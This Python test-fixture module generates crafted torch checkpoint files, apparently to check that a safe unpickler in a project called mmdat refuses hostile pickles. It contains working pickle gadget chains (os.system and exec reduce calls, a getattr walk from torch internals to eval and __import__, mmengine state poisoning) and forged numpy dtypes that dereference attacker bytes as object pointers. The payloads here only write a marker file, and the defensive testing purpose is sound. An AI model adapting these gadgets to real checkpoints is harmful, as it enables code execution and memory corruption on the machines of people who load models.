"""Crafted ``torch.save``-format files that try to run code or forge memory when unpickled.

Every payload only writes a marker file; none runs a real command. Each file is a genuine torch
zip checkpoint whose ``data.pkl`` is (partly) replaced by hand-assembled pickle opcodes (protocol 2,
what torch.save writes), so they reach exactly the unpickler a real checkpoint reaches.

* :func:`payloads`: gadgets in a file without weights (code execution through allowed globals).
* :func:`stand_in_payloads`: aimed at mmdat's stand-ins for unknown globals (a stand-in called, a
  stand-in class with hostile state, stand-ins as dict keys and dict-subclass items, stand-ins inside
  tensor rebuild arguments), beside a real VQGAN state dict.
* :func:`numpy_payloads`: forged numpy dtypes (an object scalar from raw bytes, an object array from
  raw bytes, a sub-array dtype whose itemsize lies, an ndarray viewing an object array's buffer, a
  ``numpy.dtypes`` class rewritten through BUILD), beside a real VQGAN state dict.
"""
from __future__ import annotations

import struct
import zipfile
from pathlib import Path
from typing import Optional

import torch

PROTO2 = b'\x80\x02'
STOP = b'.'


def glob(module: str, name: str) -> bytes:
    """Push the global ``module.name`` (pickle GLOBAL)."""
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def text(value: str) -> bytes:
    raw = value.encode()
    return b'X' + struct.pack('<I', len(raw)) + raw


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` through the REDUCE opcode."""
    return func + b'(' + b''.join(args) + b'tR'


def get_attr(obj: bytes, name: str, getattr_global=('builtins', 'getattr')) -> bytes:
    return call(glob(*getattr_global), obj, text(name))


def invoke(func: bytes, args: tuple[bytes, ...], new_type: bytes) -> bytes:
    """``func(*args)`` for an arbitrary callable, through torch's allow-listed
    ``torch._tensor._rebuild_from_type_v2(func, new_type, args, state)``, which calls ``func``."""
    return call(glob('torch._tensor', '_rebuild_from_type_v2'), func, new_type,
                b'(' + b''.join(args) + b't', b'N')


def builtin_function(name: str, getattr_global=('builtins', 'getattr')) -> bytes:
    """Walk from a function torch trusts to ``__builtins__[name]`` using only getattr."""
    ga = lambda obj, attr: get_attr(obj, attr, getattr_global)  # noqa: E731
    module_globals = ga(glob('torch._utils', '_rebuild_tensor'), '__globals__')
    builtins_dict = invoke(ga(module_globals, 'get'), (text('__builtins__'), ),
                           new_type=ga(module_globals, '__class__'))
    getter = ga(builtins_dict, 'get')
    return invoke(getter, (text(name), ), new_type=ga(getter, '__class__'))


def write_marker_code(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


def payloads(marker: Path) -> dict[str, bytes]:
    """Name -> pickle stream. Each one, if anything in it ran, would create ``marker``."""
    code = write_marker_code(marker)
    tensor_type = glob('torch', 'Tensor')
    # __import__('pathlib').Path(marker).write_text('pwned'), every call through the rebuild helper
    import_fn = builtin_function('__import__')
    module_type = get_attr(get_attr(import_fn, '__self__'), '__class__')
    pathlib_module = invoke(import_fn, (text('pathlib'), ), new_type=module_type)
    marker_path = invoke(get_attr(pathlib_module, 'Path'), (text(str(marker)), ),
                         new_type=get_attr(pathlib_module, 'PosixPath'))
    walk_import = invoke(get_attr(marker_path, 'write_text'), (text('pwned'), ), new_type=tensor_type)
    return {
        # classic __reduce__ gadgets
        'reduce_os_system': call(glob('os', 'system'), text(f': > {marker}')),
        'reduce_posix_system': call(glob('posix', 'system'), text(f': > {marker}')),
        'reduce_builtins_exec': call(glob('builtins', 'exec'), text(code)),
        # attribute walks through getattr into eval / exec / __import__
        'getattr_walk_eval': invoke(builtin_function('eval'), (text(code), ), new_type=tensor_type),
        'getattr_walk_exec': invoke(builtin_function('exec'), (text(code), ), new_type=tensor_type),
        'py2_getattr_walk_eval': invoke(builtin_function('eval', ('__builtin__', 'getattr')),
                                        (text(code), ), new_type=tensor_type),
        'getattr_walk_import': walk_import,
        # a nested global name that reaches a module through an allowed one
        'nested_global_name': call(glob('mmengine.logging.history_buffer',
                                        'HistoryBuffer.__init__.__globals__'), ),
        'module_through_allowed': get_attr(glob('mmengine.logging.history_buffer', 'np'), 'load'),
        # state on an allowed class that changes what it later calls (HistoryBuffer.statistics)
        'history_buffer_state': history_buffer_with_state(
            glob('torch._tensor', '_rebuild_from_type_v2')),
        'history_buffer_getattr_other_method': history_buffer_with_state(
            get_attr(glob('mmengine.logging.history_buffer', 'HistoryBuffer'), 'update')),
        'history_buffer_extra_field': history_buffer_extra_field(),
    }


def history_buffer_with_state(mean_method: bytes) -> bytes:
    """A HistoryBuffer whose pickled statistics methods replace ``mean`` (set on the class by
    mmengine's ``__setstate__``, i.e. for every buffer of the process)."""
    cls = glob('mmengine.logging.history_buffer', 'HistoryBuffer')
    state = (b'}' + text('max_length') + b'K\x0a' + b's'
             + text('statistics_methods') + b'}' + text('mean') + mean_method + b's' + b's')
    return cls + b')' + b'\x81' + state + b'b'


def history_buffer_extra_field() -> bytes:
    cls = glob('mmengine.logging.history_buffer', 'HistoryBuffer')
    state = b'}' + text('__class__') + glob('torch', 'Tensor') + b's'
    return cls + b')' + b'\x81' + state + b'b'


def integer(value: int) -> bytes:
    return b'J' + struct.pack('<i', value)


def tup(*items: bytes) -> bytes:
    return b'(' + b''.join(items) + b't'


def dictionary(*pairs: tuple[bytes, bytes]) -> bytes:
    return b'}' + b''.join(k + v + b's' for k, v in pairs)


def raw_bytes(data: bytes) -> bytes:
    """``bytes`` as protocol 2 pickles them: ``_codecs.encode(text, 'latin1')``."""
    return call(glob('_codecs', 'encode'), text(data.decode('latin-1')), text('latin1'))


def newobj(cls: bytes, args: bytes = b')') -> bytes:
    return cls + args + b'\x81'


def build(obj: bytes, state: bytes) -> bytes:
    return obj + state + b'b'


NONE, TRUE, FALSE = b'N', b'\x88', b'\x89'


def storage_ref(key: str = '0', numel: int = 1) -> bytes:
    """A reference to the archive's storage ``data/<key>`` (fp16), as torch.save writes it."""
    return tup(text('storage'), glob('torch', 'HalfStorage'), text(key), text('cpu'), integer(numel)) + b'Q'


def stand_in_payloads(marker: Path) -> dict[str, bytes]:
    """Name -> pickle expression; each file also holds a real state dict (:func:`write_with_weights`).

    The first three are inert under mmdat (the VQGAN loader keeps the weights, the mmengine
    loaders refuse the stand-ins); the rest misuse torch's rebuilders and are refused everywhere.
    """
    code = write_marker_code(marker)
    url = f'file://{marker}'
    hostile_state = dictionary((text('__class__'), glob('builtins', 'eval')),
                               (text('__setstate__'), glob('os', 'system')),
                               (text('__reduce__'), glob('subprocess', 'call')),
                               (text('__dict__'), dictionary((text('x'), text(code)))))
    ftp = build(build(newobj(glob('ftplib', 'FTP')), hostile_state),
                tup(hostile_state, dictionary((text('__class__'), glob('builtins', 'exec')))))
    model_checkpoint = glob('pytorch_lightning.callbacks.model_checkpoint', 'ModelCheckpoint')
    attribute_dict = newobj(glob('pytorch_lightning.utilities.parsing', 'AttributeDict'))
    return {
        # a stand-in class called, its result called again, and a stand-in passed as a callback
        'stand_in_called': tup(call(call(glob('webbrowser', 'open'), text(url)), text(code)),
                               call(glob('smtplib', 'SMTP'), text('localhost'), integer(25)),
                               call(glob('copyreg', '_reconstructor'), glob('ftplib', 'FTP'),
                                    glob('builtins', 'object'), NONE)),
        # a stand-in created with NEWOBJ whose state names eval/os.system/subprocess.call, then called
        'stand_in_class_with_state': call(ftp, text(code)),
        # stand-ins as dict keys (Lightning < 1.5 keys callback states by the class) and as the
        # items of a dict subclass (Lightning's AttributeDict)
        'stand_in_dict_key': dictionary(
            (model_checkpoint, dictionary((text('best_model_path'), text(code)))),
            (newobj(glob('http.server', 'HTTPServer')), integer(1)),
            (text('hparams'), attribute_dict + b'(' + model_checkpoint + glob('pdb', 'set_trace') + b'u')),
        # stand-ins inside torch's tensor rebuild arguments
        'stand_in_tensor_hooks': call(glob('torch._utils', '_rebuild_tensor_v2'), storage_ref(), integer(0),
                                      tup(integer(1)), tup(integer(1)), FALSE,
                                      call(glob('collections', 'OrderedDict'),
                                           b']' + tup(integer(0), newobj(glob('webbrowser', 'open'))) + b'a')),
        'stand_in_as_rebuild_function': call(glob('torch._tensor', '_rebuild_from_type_v2'),
                                             glob('webbrowser', 'open'), glob('torch', 'Tensor'),
                                             tup(text(url)), NONE),
        'stand_in_as_tensor_data': call(glob('torch._utils', '_rebuild_parameter'),
                                        newobj(glob('smtplib', 'SMTP')), FALSE,
                                        call(glob('collections', 'OrderedDict'), )),
        'stand_in_as_tensor_size': call(glob('torch._utils', '_rebuild_tensor_v2'), storage_ref(), integer(0),
                                        newobj(glob('webbrowser', 'open')), tup(integer(1)), FALSE, NONE),
    }


#: an object dtype rewritten through BUILD to claim none of its flags (NPY_LIST_PICKLE, NPY_ITEM_REFCOUNT...):
#: numpy's scalar()/array state then take raw file bytes as PyObject pointers
_FORGED_OBJECT_FLAGS = 0


def _dtype(code: str, state: bytes) -> bytes:
    return build(call(glob('numpy', 'dtype'), text(code), FALSE, TRUE), state)


def _dtype_state(order: str, subarray: bytes = NONE, elsize: int = -1, alignment: int = -1,
                 flags: int = 0) -> bytes:
    return tup(integer(3), text(order), subarray, NONE, NONE, integer(elsize), integer(alignment), integer(flags))


def numpy_array(dtype: bytes, shape: tuple[int, ...], raw: bytes) -> bytes:
    reconstruct = call(glob('numpy._core.multiarray', '_reconstruct'), glob('numpy', 'ndarray'),
                       tup(integer(0)), raw_bytes(b'b'))
    return build(reconstruct, tup(integer(1), tup(*map(integer, shape)), dtype, FALSE, raw_bytes(raw)))


def numpy_payloads() -> dict[str, bytes]:
    """Name -> pickle expression forging numpy memory; each file also holds a real state dict."""
    pointer = b'\x41' * 8  # 8 attacker bytes numpy would dereference as a PyObject*
    object_dtype = _dtype('O', _dtype_state('|', flags=_FORGED_OBJECT_FLAGS))
    float_as_object = _dtype('f8', _dtype_state('|', flags=_FORGED_OBJECT_FLAGS))
    # a void dtype claiming a sub-array of 4 objects (32 bytes) in an itemsize of 8, flags cleared
    lying_subarray = _dtype('V8', _dtype_state('|', subarray=tup(_dtype('O', _dtype_state('|', flags=0x3f)),
                                                                   tup(integer(4))),
                                               elsize=8, alignment=1, flags=_FORGED_OBJECT_FLAGS))
    genuine_object_array = build(
        call(glob('numpy._core.multiarray', '_reconstruct'), glob('numpy', 'ndarray'), tup(integer(0)),
             raw_bytes(b'b')),
        tup(integer(1), tup(integer(2)), _dtype('O', _dtype_state('|', flags=0x3f)), FALSE,
            b']' + b'(' + text('a') + text('b') + b'e'))
    return {
        'numpy_object_scalar': call(glob('numpy._core.multiarray', 'scalar'), object_dtype, raw_bytes(pointer)),
        'numpy_float_dtype_rewritten_as_object': call(glob('numpy._core.multiarray', 'scalar'), float_as_object,
                                                      raw_bytes(pointer)),
        'numpy_object_array_from_bytes': numpy_array(object_dtype, (1, ), pointer),
        'numpy_subarray_itemsize_lie': numpy_array(lying_subarray, (1, ), pointer),
        'numpy_ndarray_views_object_buffer': call(glob('numpy', 'ndarray'), tup(integer(2)),
                                                  _dtype('u8', _dtype_state('<')), genuine_object_array),
        'numpy_dtypes_class_through_build': call(
            glob('numpy.core.multiarray', 'scalar'),
            build(newobj(glob('numpy.dtypes', 'ObjectDType')), _dtype_state('|', flags=0x3f)),
            raw_bytes(pointer)),
        'numpy_big_endian_array': numpy_array(_dtype('f8', _dtype_state('>')), (1, ), b'\0' * 8),
    }


def _payload_slot() -> None:
    """Placeholder pickled by reference where :func:`write_with_weights` puts a payload."""


def write_with_weights(path: Path, state_dict: dict, payload: bytes) -> Path:
    """``torch.save({'state_dict': state_dict, 'payload': <payload>})``: a real checkpoint (tensors,
    storages, memo) whose ``payload`` value is the hand-assembled pickle expression ``payload``."""
    path = Path(path)
    template = path.with_suffix('.template')
    torch.save({'state_dict': state_dict, 'payload': _payload_slot}, template)
    slot = glob(__name__, '_payload_slot')
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                if data.count(slot) != 1:
                    raise AssertionError(f'payload slot found {data.count(slot)} times in the template')
                data = data.replace(slot, payload)
            dst.writestr(info.filename, data)
    template.unlink()
    return path


def write_checkpoint(path: Path, pickle_body: bytes) -> Path:
    """A torch.save zip archive whose object pickle is ``PROTO 2 + pickle_body + STOP``."""
    path = Path(path)
    template = path.with_suffix('.template')
    torch.save({'state_dict': {}}, template)
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = PROTO2 + pickle_body + STOP
            dst.writestr(info.filename, data)
    template.unlink()
    return path


def write_all(directory: Path, marker: Path, state_dict: Optional[dict] = None) -> dict[str, Path]:
    """Every hostile file; the stand-in and numpy ones need ``state_dict`` (fp16 tensors)."""
    directory.mkdir(parents=True, exist_ok=True)
    files = {name: write_checkpoint(directory / f'{name}.pth', body) for name, body in payloads(marker).items()}
    if state_dict is not None:
        weighted = {**stand_in_payloads(marker), **numpy_payloads()}
        files.update({name: write_with_weights(directory / f'{name}.pth', state_dict, body)
                      for name, body in weighted.items()})
    return files
